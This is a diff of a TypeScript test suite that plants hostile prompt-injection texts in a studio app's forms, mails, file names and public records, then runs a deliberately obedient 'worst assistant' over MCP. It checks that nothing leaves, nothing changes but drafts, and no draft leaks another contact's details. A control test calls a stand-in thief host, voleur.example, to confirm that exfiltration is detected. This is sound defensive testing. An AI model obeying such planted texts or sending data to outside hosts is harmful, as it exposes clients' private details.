@@ -2,24 +2,81 @@
 // leaves, nothing changes but drafts, and no draft holds the details of somebody else (docs/decisions/0140).
 import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
 import { afterAll, beforeAll, expect, test } from 'vitest';
-import { systemClock } from '../../supabase/functions/_shared/dependencies.ts';
+import { type Dependencies, systemClock } from '../../supabase/functions/_shared/dependencies.ts';
 import { readMessage } from '../../supabase/functions/_shared/inbound/read-message.ts';
+import { systemNetwork } from '../../supabase/functions/_shared/network.ts';
+import { type SmtpServer, startSmtpServer } from '../../supabase/functions/_testing/smtp-server.ts';
 import { draftTools } from '../../supabase/functions/assistant/draft-tools.ts';
 import { handler } from '../../supabase/functions/assistant/handler.ts';
 import { tools } from '../../supabase/functions/assistant/tools.ts';
-import { embeddedWithoutFunctions } from '../database/engines/embedded.ts';
+import { handler as dispatcher } from '../../supabase/functions/dispatch-emails/handler.ts';
+import { startEmbeddedWithMail } from '../database/engines/embedded.ts';
 import type { Engine, Row } from '../database/engines/engine.ts';
 import { rowFactoryOf } from '../database/fixtures/rows/row-factories.ts';
+import { upload } from '../database/fixtures/storage.ts';
 import { insert } from '../database/fixtures/tables.ts';
 import { hostileMail, hostileTexts } from './assistant/hostile-texts.ts';
 import { obeyEverything } from './assistant/worst-assistant.ts';
 
 let engine: Engine;
+/** The mail server of the product, and of its sign-in service. */
+let mail: SmtpServer;
 beforeAll(async () => {
-  engine = await embeddedWithoutFunctions.start();
+  mail = await startSmtpServer();
+  engine = await startEmbeddedWithMail(mail.port);
+  await engine.sql(
+    `update public.studio set sender_name = 'Studio', legal_name = 'Studio inc.', postal_address = 'Percé',
+       contact_email = 'studio@exemple.test'`,
+  );
   await plant();
+  await dispatch();
 });
-afterAll(() => engine?.close());
+afterAll(async () => {
+  await engine?.close();
+  await mail?.close();
+});
+
+/** What a function is given: whatever it asks of the project goes to the engine, and nothing goes elsewhere. */
+const outside = (note: (host: string) => void): Dependencies => ({
+  fetch: async (url, { method = 'GET', body, headers }) => {
+    const { hostname, pathname, search } = new URL(url);
+    note(hostname);
+    if (hostname !== '127.0.0.1') throw new TypeError('nothing else is reached');
+    const { apikey: _, authorization: __, ...sent } = headers as Record<string, string>;
+    const answer = await engine.request('service', {
+      ...{ method: method as 'POST', path: `${pathname}${search}` as const, headers: sent },
+      body: typeof body === 'string' ? JSON.parse(body) : body,
+    });
+    return new Response(answer.text || null, { status: answer.status });
+  },
+  env: (name) =>
+    ({
+      SUPABASE_URL: 'http://127.0.0.1:1',
+      SUPABASE_SECRET_KEY: 'sb_secret_x',
+      SITE_URL: 'http://127.0.0.1:2',
+      SMTP_HOST: '127.0.0.1',
+      SMTP_PORT: String(mail.port),
+      MAIL_FROM: 'studio@exemple.test',
+      ADMIN_NOTIFICATION_EMAIL: 'admin@exemple.test',
+      DISPATCH_SECRET: 'secret-d-essai',
+    })[name],
+  clock: systemClock,
+  log: () => undefined,
+  net: {
+    resolve: (name) => Promise.reject(note(String(name))),
+    connect: () => Promise.reject(note('socket')),
+  },
+  keepAlive: () => undefined,
+});
+
+/** Runs the dispatcher of e-mails as each minute does: what waits to leave leaves. */
+async function dispatch(): Promise<void> {
+  const request = new Request('http://functions.test/dispatch-emails', {
+    ...{ method: 'POST', headers: { 'x-dispatch-secret': 'secret-d-essai' } },
+  });
+  const answer = await dispatcher(request, { ...outside(() => undefined), net: systemNetwork });
+  expect(answer.status, await answer.text()).toBe(200);
+}
 
 const uuid = (table: string, index: number) =>
   `e${table}000000-0000-4000-8000-${String(index).padStart(12, '0')}`;
@@ -114,7 +171,7 @@ async function plant(): Promise<void> {
     // The name of a file of a survey.
     await insert(engine, rowFactoryOf('survey_pictures'), {
       ...{ ...rowFactoryOf('survey_pictures').row(0, engine.people), id: uuid('1', index) },
-      ...{ survey_id: uuid('c', 0), file_name: `${text.slice(0, 300)}.jpg` },
+      ...{ survey_id: uuid('c', 0), file_name: `${text.slice(0, 300)}.jpg`, left_out: null },
     });
   }
 }
@@ -136,39 +193,19 @@ async function everything(): Promise<Map<string, string>> {
   return state;
 }
 
-/** Lets the worst assistant loose; returns what left or changed, and its drafts. */
-async function letLoose(most?: number) {
+/**
+ * Lets the worst assistant loose; returns what left or changed, and its drafts.
+ *
+ * @param most limits the orders that it obeys
+ * @param beside is done by hand meanwhile
+ */
+async function letLoose(most?: number, beside?: (dependencies: Dependencies) => Promise<void>) {
   const hosts = new Set<string>();
   const made = await engine.request('admin', {
     ...{ method: 'POST', path: '/rest/v1/rpc/create_assistant_key' },
     body: { name: 'Le pire', days: 1 },
   });
-  const dependencies: Parameters<typeof handler>[1] = {
-    fetch: async (url, init) => {
-      const { hostname, pathname } = new URL(url);
-      hosts.add(hostname);
-      const { method = 'GET', body } = init;
-      const path = pathname as `/${string}`;
-      const answer = await engine.request('service', {
-        ...{ method: method as 'POST', path },
-        body: JSON.parse(String(body)),
-      });
-      return new Response(answer.text, { status: answer.status });
-    },
-    env: (name) =>
-      ({
-        SUPABASE_URL: 'http://127.0.0.1:1',
-        SUPABASE_SECRET_KEY: 'sb_secret_x',
-        SITE_URL: 'http://127.0.0.1:2',
-      })[name],
-    clock: systemClock,
-    log: () => undefined,
-    net: {
-      resolve: (name) => Promise.reject(hosts.add(String(name))),
-      connect: () => Promise.reject(hosts.add('socket')),
-    },
-    keepAlive: () => undefined,
-  };
+  const dependencies = outside((host) => hosts.add(host));
   const client = new Client({ name: 'le pire', version: '1' }, { versionNegotiation: { mode: 'auto' } });
   await client.connect(
     new StreamableHTTPClientTransport(new URL('http://functions.test/assistant'), {
@@ -176,7 +213,7 @@ async function letLoose(most?: number) {
       fetch: (url, sent) => handler(new Request(url, sent), dependencies),
     }),
   );
-  const before = await everything();
+  const [before, sent] = [await everything(), mail.messages.length];
   const drafts: Row[] = [];
   let calls = 0;
   const harvest = async () => {
@@ -199,6 +236,7 @@ async function letLoose(most?: number) {
   );
   await harvest();
   await client.close();
+  await beside?.(dependencies);
   const after = await everything();
   const changed = [...after].flatMap(([name, rows]) => (before.get(name) === rows ? [] : [name]));
   const carried = drafts.filter(({ content, contact_id }) =>
@@ -207,13 +245,35 @@ async function letLoose(most?: number) {
         id !== contact_id && [email, phone, notes].some((secret) => String(content).includes(secret)),
     ),
   );
-  return { report, hosts: [...hosts], changed, drafts, carried };
+  await dispatch();
+  return { report, hosts: [...hosts], changed, mails: mail.messages.slice(sent), drafts, carried };
 }
 
+/** The ways of strangers: where their texts say that they come from. */
+const ways = {
+  form: 'formulaire de demande',
+  mail: 'courriel reçu',
+  organisation: 'saisi au studio ou reçu de l’extérieur',
+  tender: 'avis du SEAO',
+  prospect: 'page ou registre public',
+  file: 'nom d’un fichier déposé',
+} as const;
+
+// A name holds the beginning of a text, and a mail program of the old days writes a straight apostrophe.
+const beginningOf = (text: string) => text.replaceAll('’', "'").slice(0, 90);
+
 test('nothing leaves, nothing changes but drafts, and none holds the details of somebody else', async () => {
-  const { report, hosts, changed, drafts, carried } = await letLoose();
+  const { report, hosts, changed, mails, drafts, carried } = await letLoose();
+  const read = Object.entries(ways).map(([way, source]) => {
+    const texts = [...(report.strangers.get(source) ?? [])].map((text) => text.replaceAll('’', "'"));
+    return [way, hostileTexts.filter((text) => texts.some((one) => one.includes(beginningOf(text)))).length];
+  });
   console.log(
-    `${hostileTexts.length * 6} hostile texts placed, ${report.orders} orders read and obeyed, ${report.calls} calls, ${drafts.length} drafts kept`,
+    `${hostileTexts.length * 6} hostile texts placed, read as strangers': ${read.map((of) => of.join(' ')).join(', ')}; ${report.orders} orders obeyed, ${report.calls} calls, ${drafts.length} drafts kept`,
+  );
+  // Each text of each way was read, as a stranger's.
+  expect(Object.fromEntries(read)).toEqual(
+    Object.fromEntries(Object.keys(ways).map((way) => [way, hostileTexts.length])),
   );
   expect(report.orders).toBeGreaterThanOrEqual(200);
   // It had what to leak.
@@ -221,7 +281,20 @@ test('nothing leaves, nothing changes but drafts, and none holds the details of 
   expect(drafts.length).toBeGreaterThan(0);
   expect(hosts).toEqual(['127.0.0.1']);
   expect(changed).toEqual([]);
+  expect(mails).toEqual([]);
   expect(carried).toEqual([]);
+});
+
+test('control: one file, one e-mail and one call to a machine are seen', async () => {
+  const { changed, mails, hosts } = await letLoose(0, async ({ fetch }) => {
+    expect((await upload(engine, 'admin', `vol-${crypto.randomUUID()}.jpg`)).status).toBe(200);
+    const email = engine.people.admin.email;
+    await engine.request('visitor', { method: 'POST', path: '/auth/v1/recover', body: { email } });
+    await fetch('https://voleur.example/?d=tout', {}).catch(() => undefined);
+  });
+  expect(changed).toContain('storage.objects');
+  expect(mails.map(({ to }) => to)).toEqual([[`<${engine.people.admin.email}>`]]);
+  expect(hosts).toContain('voleur.example');
 });
 
 test('control: with one tool that sends, the same assistant is seen to leak', async () => {
@@ -241,8 +314,9 @@ test('control: with one tool that sends, the same assistant is seen to leak', as
     title: 'Envoyer un courriel',
   };
   try {
-    const { changed } = await letLoose(5);
+    const { changed, mails } = await letLoose(5);
     expect(changed).toContain('notifications');
+    expect(mails.length).toBeGreaterThan(0);
   } finally {
     delete widened.envoyer_courriel;
   }
